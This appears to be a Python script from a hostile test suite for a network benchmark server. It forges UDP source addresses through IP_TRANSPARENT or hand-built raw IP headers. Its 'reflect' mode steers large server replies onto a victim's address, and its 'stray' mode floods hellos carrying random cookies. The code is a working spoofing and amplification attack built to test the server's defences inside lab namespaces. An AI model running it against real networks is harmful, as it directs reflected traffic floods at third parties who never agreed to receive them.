#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""UDP datagrams with a forged source address, and the two attacks of the
hostile tests built on them.

How the source is forged: a UDP socket with IP_TRANSPARENT (root,
CAP_NET_ADMIN) may bind to an address this host does not own, and the
kernel then sends from it (routing with FLOWI_FLAG_ANYSRC).  The attacker
namespace does not own the victim's address B, so nothing answers ARP for B
there; the server's replies go to whoever owns B on the bridge: the victim
namespace, where bcount.py counts them.  Where IP_TRANSPARENT is refused,
a raw IP_HDRINCL socket builds the IPv4 and UDP headers itself (fine for
the small datagrams sent here; HOSTILE_FORGE_RAW=1 forces it).

  forge.py reflect --server S --port P --victim B[,B2...] [--req 8 --rsp 60000]
      [--count N --rate R] [--go] [--counter CMD] [--sent-counter CMD]
    Opens a genuine control session from this namespace (UDP_RR, one flow
    per victim address), then sends each flow's hello and N requests with
    the session's cookie from a victim address.  Phase "pre" runs before
    READY; with --go, READY is sent and phase "go" repeats the requests
    after GO.  CMD (a shell command printing bcount.py's JSON) is run
    before and after each phase: --counter for what reached the victims
    ("at_victim"), --sent-counter for what the server sent them
    ("from_server").  Prints one JSON object.

  forge.py stray --server S --port P --src B --count N [--rate R]
    N hellos with random cookies (no session), from B.  Prints JSON.
"""
import argparse
import json
import os
import random
import socket
import struct
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import xpwire  # noqa: E402

IP_TRANSPARENT = 19
IP_HDR = 20
UDP_HDR = 8


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


class Forged:
    """Send UDP datagrams from (src, sport) to (dst, dport)."""

    def __init__(self, src, sport, dst, dport):
        self.src, self.sport, self.dst, self.dport = src, sport, dst, dport
        self.sent = self.bytes_ip = 0
        try:
            if os.environ.get("HOSTILE_FORGE_RAW"):
                raise OSError("raw socket asked for")
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
            s.bind((src, sport))
            self.sock, self.how = s, "IP_TRANSPARENT"
        except OSError:
            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            self.sock, self.how = s, "raw IP_HDRINCL"

    def _raw(self, payload):
        ulen = UDP_HDR + len(payload)
        src, dst = socket.inet_aton(self.src), socket.inet_aton(self.dst)
        pseudo = src + dst + struct.pack("!BBH", 0, 17, ulen)
        udp = struct.pack("!HHHH", self.sport, self.dport, ulen, 0)
        udp = struct.pack("!HHHH", self.sport, self.dport, ulen,
                          csum(pseudo + udp + payload) or 0xffff)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, IP_HDR + ulen, random.getrandbits(16),
                         0, 64, 17, 0, src, dst)
        return ip + udp + payload

    def send(self, payload):
        if self.how == "IP_TRANSPARENT":
            self.sock.sendto(payload, (self.dst, self.dport))
        else:
            self.sock.sendto(self._raw(payload), (self.dst, 0))
        self.sent += 1
        self.bytes_ip += IP_HDR + UDP_HDR + len(payload)


def paced(senders, payload_of, count, rate):
    """count datagrams from each sender, rate per second in all."""
    gap = 1.0 / rate if rate else 0
    t0 = time.monotonic()
    k = 0
    for i in range(count):
        for s in senders:
            s.send(payload_of(i))
            k += 1
            if gap:
                ahead = t0 + k * gap - time.monotonic()
                if ahead > 0:
                    time.sleep(ahead)


def read_counters(a):
    res = {}
    for key, cmd in (("at_victim", a.counter), ("from_server", a.sent_counter)):
        if cmd:
            out = subprocess.run(cmd, shell=True, capture_output=True, text=True,
                                 timeout=10)
            res[key] = json.loads(out.stdout or "{}")
    return res


def delta(a, b):
    return {key: {k: v - a[key].get(k, 0) for k, v in b[key].items()} for key in b}


def reflect(a):
    victims = a.victim.split(",")
    ctl, mtype, f = xpwire.control_session(
        a.server, a.port, test="UDP_RR", duration_ms=a.duration_ms, req=a.req,
        rsp=a.rsp, flows=len(victims), threads=1)
    res = {"setup": xpwire.TYPE_NAMES.get(mtype), "phases": {}}
    if mtype != xpwire.SETUP_OK:
        res["error"] = xpwire.text(f)
        return res
    cookie = f["cookie"]
    senders = [Forged(v, a.sport + i, a.server, a.port) for i, v in enumerate(victims)]
    res["forged_with"] = senders[0].how
    c0 = read_counters(a)
    for i, s in enumerate(senders):
        s.send(xpwire.hello(cookie, i))
    time.sleep(0.2)   # let the server register the flows
    seq = lambda i: struct.pack(">Q", i)[-a.req:] + b"\0" * max(0, a.req - 8)
    paced(senders, seq, a.count, a.rate)
    time.sleep(0.5)   # replies in flight
    c1 = read_counters(a)
    res["phases"]["pre"] = {"in_ip": sum(s.bytes_ip for s in senders),
                            "sent": sum(s.sent for s in senders), **delta(c0, c1)}
    if a.go:
        for s in senders:
            s.bytes_ip = s.sent = 0
        ctl.sendall(xpwire.encode(xpwire.READY))
        ctl.settimeout(3)  # GO comes at once if the flows were taken
        try:
            mtype, f = xpwire.recv_msg(ctl)
            res["after_ready"] = xpwire.TYPE_NAMES.get(mtype)
        except (OSError, EOFError, ValueError) as e:
            res["after_ready"] = "none (%s)" % e
        paced(senders, seq, a.count, a.rate)
        time.sleep(0.5)
        c2 = read_counters(a)
        res["phases"]["go"] = {"in_ip": sum(s.bytes_ip for s in senders),
                               "sent": sum(s.sent for s in senders), **delta(c1, c2)}
    ctl.close()
    return res


def stray(a):
    s = Forged(a.src, a.sport, a.server, a.port)
    rnd = random.Random(a.seed)
    t0 = time.monotonic()
    paced([s], lambda i: xpwire.hello(rnd.getrandbits(64), 0), a.count, a.rate)
    return {"sent": s.sent, "in_ip": s.bytes_ip, "forged_with": s.how,
            "seconds": round(time.monotonic() - t0, 3)}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("reflect")
    r.add_argument("--victim", required=True)
    r.add_argument("--req", type=int, default=8)
    r.add_argument("--rsp", type=int, default=60000)
    r.add_argument("--duration-ms", type=int, default=5000)
    r.add_argument("--go", action="store_true")
    r.add_argument("--counter")
    r.add_argument("--sent-counter")
    st = sub.add_parser("stray")
    st.add_argument("--src", required=True)
    st.add_argument("--seed", type=int, default=1)
    for q in (r, st):
        q.add_argument("--server", required=True)
        q.add_argument("--port", type=int, required=True)
        q.add_argument("--sport", type=int, default=40000)
        q.add_argument("--count", type=int, default=1000)
        q.add_argument("--rate", type=float, default=2000)
    a = p.parse_args()
    print(json.dumps(reflect(a) if a.cmd == "reflect" else stray(a)))


if __name__ == "__main__":
    main()
